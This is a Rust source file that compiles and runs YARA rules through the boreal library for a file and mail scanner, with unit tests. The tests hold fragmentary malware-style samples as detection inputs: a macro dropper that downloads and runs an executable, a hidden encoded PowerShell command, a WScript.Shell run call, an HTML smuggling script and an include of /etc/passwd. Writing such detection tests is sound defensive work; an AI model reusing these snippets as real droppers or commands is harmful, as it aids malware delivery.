//! YARA rules, through boreal.
//!
//! A match means what the rule's meta field `severity` says: `infected`, `forbidden` or `suspicious`; a rule that says nothing means
//! `infected`. Private and global rules work as everywhere. Each scan has a time; the number of matches reported is bounded.

pub mod folder;

use boreal::compiler::{Compiler, CompilerParams};
use boreal::scanner::ScanParams;
use boreal::{MetadataValue, Scanner};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use std::time::Duration;

/// One file of rules, as text.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RuleFile {
    /// Its name, which is the rules' namespace.
    pub name: String,
    /// The rules.
    pub text: String,
}

impl RuleFile {
    /// Our own rules.
    pub fn embedded() -> RuleFile {
        RuleFile { name: "weir".into(), text: include_str!("embedded.yar").into() }
    }
}

/// What identifies a set of rules.
pub fn version(files: &[RuleFile]) -> String {
    let mut hash = Sha256::new();
    for file in files {
        hash.update((file.name.len() as u64).to_le_bytes());
        hash.update(&file.name);
        hash.update((file.text.len() as u64).to_le_bytes());
        hash.update(&file.text);
    }
    hash.finalize()[..6].iter().map(|byte| format!("{byte:02x}")).collect()
}

/// What a match means.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Severity {
    /// Worth an analysis.
    Suspicious,
    /// Does not pass.
    Forbidden,
    /// Malware.
    Infected,
}

/// A rule that matched.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Match {
    /// Its name; with its file's name unless it is one of ours.
    pub rule: String,
    /// What it means.
    pub severity: Severity,
    /// Whether the rule says so itself.
    pub declared: bool,
    /// What the rule's author says it finds; may be empty.
    pub description: String,
}

/// What is known of the bytes from outside.
#[derive(Debug, Clone, Copy, Default)]
pub struct Externals<'a> {
    /// The file's name.
    pub name: &'a str,
    /// Its extension, in small letters.
    pub extension: &'a str,
    /// What it is by content.
    pub kind: &'a str,
    /// Whether it was in an archive.
    pub in_archive: bool,
    /// Whether it is the raw message.
    pub is_message: bool,
}

/// Compiled rules.
#[derive(Debug)]
pub struct Rules {
    scanner: Scanner,
}

/// More matches than this say nothing new.
const MATCHES_MAX: usize = 16;
/// A rule can count one of its strings (`#a`) up to this; each match takes memory.
const COUNT_MAX: u32 = 1000;
/// Names of outside that rules may use, besides ours.
const TEXTS: [&str; 6] = ["filename", "filepath", "extension", "filetype", "owner", "kind"];

impl Rules {
    /// Compiles; the first problem is told with its place.
    pub fn compile(files: &[RuleFile]) -> Result<Rules, RulesError> {
        let mut compiler = Compiler::new();
        // Everything comes as text: nothing is read from a disk while compiling.
        compiler.set_params(CompilerParams::default().disable_includes(true));
        for name in TEXTS {
            compiler.define_symbol(name, "");
        }
        for name in ["in_archive", "is_message"] {
            compiler.define_symbol(name, false);
        }
        for file in files {
            let added = compiler.add_rules_str_in_namespace(&file.text, &file.name);
            added.map_err(|error| RulesError { file: file.name.clone(), problem: error.to_string() })?;
        }
        let mut scanner = compiler.finalize();
        scanner.set_scan_params(ScanParams::default().match_max_length(16).string_max_nb_matches(COUNT_MAX));
        Ok(Rules { scanner })
    }

    /// How many rules there are.
    pub fn count(&self) -> usize {
        self.scanner.rules().count()
    }

    /// Scans: what matched, and whether the time was enough.
    pub fn scan(&mut self, data: &[u8], known: &Externals<'_>, within: Duration) -> (Vec<Match>, bool) {
        let texts = [known.name, known.name, known.extension, known.kind, "", known.kind];
        for (name, value) in TEXTS.into_iter().zip(texts) {
            let _ = self.scanner.define_symbol(name, value);
        }
        let _ = self.scanner.define_symbol("in_archive", known.in_archive);
        let _ = self.scanner.define_symbol("is_message", known.is_message);
        let params = self.scanner.scan_params().clone().timeout_duration(Some(within));
        self.scanner.set_scan_params(params);
        match self.scanner.scan_mem(data) {
            Ok(result) => (self.matches(&result.rules), true),
            // What was found before the time was up still counts.
            Err((_, result)) => (self.matches(&result.rules), false),
        }
    }

    fn matches(&self, rules: &[boreal::scanner::EvaluatedRule<'_>]) -> Vec<Match> {
        let mut matches: Vec<Match> = rules.iter().map(|rule| self.one(rule)).collect();
        matches.sort_by_key(|found| std::cmp::Reverse(found.severity));
        matches.truncate(MATCHES_MAX);
        matches
    }

    fn one(&self, rule: &boreal::scanner::EvaluatedRule<'_>) -> Match {
        let text = |wanted: &str| {
            let value = rule.metadatas.iter().find(|meta| self.scanner.get_string_symbol(meta.name) == wanted)?;
            match value.value {
                MetadataValue::Bytes(symbol) => Some(self.scanner.get_bytes_symbol(symbol)),
                _ => None,
            }
        };
        let (severity, declared) = match text("severity") {
            Some(b"suspicious") => (Severity::Suspicious, true),
            Some(b"forbidden") => (Severity::Forbidden, true),
            Some(b"infected") => (Severity::Infected, true),
            _ => (Severity::Infected, false),
        };
        let name =
            if rule.namespace == "weir" { rule.name.to_owned() } else { format!("{}/{}", rule.namespace, rule.name) };
        let description = text("description").map(String::from_utf8_lossy).unwrap_or_default();
        Match { rule: name, severity, declared, description: description.chars().take(200).collect() }
    }
}

/// Rules that do not compile.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("rules in {file} do not compile: {problem}")]
pub struct RulesError {
    /// Which file.
    pub file: String,
    /// What is wrong, with its place.
    pub problem: String,
}

/// Rules that cannot be used.
#[derive(Debug, thiserror::Error)]
pub enum RulesetError {
    /// The folder.
    #[error("the folder of rules: {0}")]
    Folder(#[from] folder::FolderError),
    /// The rules.
    #[error(transparent)]
    Rules(#[from] RulesError),
    /// The setup in force.
    #[error("the rules in force cannot be changed: {0}")]
    System(#[from] std::io::Error),
    /// The compiler itself.
    #[error("the compiler of rules crashed")]
    Crashed,
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::eicar::eicar;

    fn names(data: &[u8], known: Externals<'_>) -> Vec<String> {
        let mut rules = Rules::compile(&[RuleFile::embedded()]).unwrap();
        let (found, whole) = rules.scan(data, &known, Duration::from_secs(10));
        assert!(whole);
        found.into_iter().map(|found| found.rule).collect()
    }

    #[test]
    fn the_embedded_rules_find_what_they_are_for() {
        let plain = Externals::default();
        let archived = Externals { in_archive: true, ..plain };
        let r#macro = Externals { extension: "macro", ..archived };
        assert_eq!(names(eicar().as_bytes(), plain), ["EICAR_test_file"]);
        assert_eq!(
            names(b"Sub AutoOpen()\nURLDownloadToFile 0, \"http://x/y.exe\", f\nShell (f)\n", r#macro),
            ["Macro_dropper", "Macro_starts_a_program"]
        );
        assert_eq!(names(b"var s = new ActiveXObject('WScript.Shell'); s.Run('x')", archived), ["Script_in_archive"]);
        assert_eq!(names(b"<html><HTA:APPLICATION id=x>", plain), ["HTML_application"]);
        let command = [b"powershell -w hidden -enc ".as_slice(), &[b'A'; 60]].concat();
        assert_eq!(names(&command, plain), ["Hidden_PowerShell"]);
        let shortcut = [b"L\0\0\0\x01\x14\x02\0".as_slice(), b"c\0m\0d\0.\0e\0x\0e\0"].concat();
        assert_eq!(names(&shortcut, plain), ["Shortcut_that_runs_a_command"]);
        let page =
            b"<script>var b = new Blob([atob('UEsDBBQ')]); a.download = 'x.zip'; URL.createObjectURL(b)</script>";
        assert_eq!(names(page, plain), ["HTML_smuggling"]);
        assert_eq!(
            names(b"{\\rtf1{\\object\\objdata 0002CE020000000000C000000000000046}}", plain),
            ["RTF_equation_exploit"]
        );
    }

    #[test]
    fn usual_mail_matches_nothing() {
        let text =
            b"Dear Ann,\r\nplease open the document and save it in the shell of the archive.\r\nBob\r\n".repeat(100);
        assert_eq!(names(&text, Externals { is_message: true, ..Externals::default() }), Vec::<String>::new());
        assert_eq!(names(b"", Externals::default()), Vec::<String>::new());
    }

    #[test]
    fn rules_of_others_name_their_file_and_mean_infected() {
        let text = "import \"pe\"\nrule x { strings: $a = \"abc\" condition: $a and filename == \"f\" }".to_owned();
        let file = RuleFile { name: "mine.yar".into(), text };
        let mut rules = Rules::compile(&[file]).unwrap();
        let (found, _) = rules.scan(b"abc", &Externals { name: "f", ..Externals::default() }, Duration::from_secs(1));
        assert_eq!((found[0].rule.as_str(), found[0].severity), ("mine.yar/x", Severity::Infected));
        assert_eq!(rules.scan(b"abc", &Externals::default(), Duration::from_secs(1)), (Vec::new(), true));
    }

    #[test]
    fn rules_can_count() {
        let text = "rule x { strings: $a = \"abc\" condition: #a > 900 }".to_owned();
        let mut rules = Rules::compile(&[RuleFile { name: "mine.yar".into(), text }]).unwrap();
        let mut count =
            |times: usize| rules.scan(&b"abc ".repeat(times), &Externals::default(), Duration::from_secs(10)).0.len();
        assert_eq!((count(900), count(901)), (0, 1));
    }

    #[test]
    fn what_does_not_compile_says_where() {
        let file = RuleFile { name: "bad.yar".into(), text: "rule x { condition: $a }".into() };
        let error = Rules::compile(&[file]).unwrap_err();
        assert!(error.to_string().starts_with("rules in bad.yar do not compile: "), "{error}");
        let file = RuleFile { name: "inc.yar".into(), text: "include \"/etc/passwd\"".into() };
        assert!(Rules::compile(&[file]).is_err());
    }
}
